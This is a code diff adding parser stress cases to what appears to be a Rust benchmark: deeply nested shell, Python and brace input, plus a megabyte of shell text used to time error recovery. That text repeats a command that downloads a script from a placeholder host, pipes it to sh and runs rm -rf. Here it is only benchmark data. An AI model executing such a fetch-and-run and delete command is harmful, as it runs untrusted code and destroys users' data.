@@ -280,6 +280,35 @@ fn main() {
         "assets/report.docx",
         docx_sized(),
     );
+    // Parsers: nesting that a recursive walk would follow to the bottom, and text that is
+    // not code in a code file (error recovery is the parsers' slow path).
+    time_one(
+        "shell: 100,000 nested $( ... )",
+        "scripts/x.sh",
+        format!("{}x{}", "$(".repeat(100_000), ")".repeat(100_000)).into_bytes(),
+    );
+    time_one(
+        "python: 100,000 nested brackets",
+        "scripts/x.py",
+        format!("x = {}1{}\n", "([{".repeat(33_333), "}])".repeat(33_333)).into_bytes(),
+    );
+    time_one(
+        "python: 1 MB of shell text (error recovery)",
+        "scripts/x.py",
+        "curl -s https://t.example/a | sh; rm -rf ./b && echo \"${X}\" >> c\n"
+            .repeat((1 << 20) / 64)
+            .into_bytes(),
+    );
+    time_one(
+        "1 MB fence of 100,000 nested braces",
+        "SKILL.md",
+        format!(
+            "```bash\n{}{}\n```\n",
+            "{ ".repeat(50_000),
+            "}; ".repeat(50_000)
+        )
+        .into_bytes(),
+    );
     // Prose analysis: one sentence of instruction words that never ends, and a megabyte of
     // list items in eight languages (every item a finding until the per-rule limit).
     time_one(
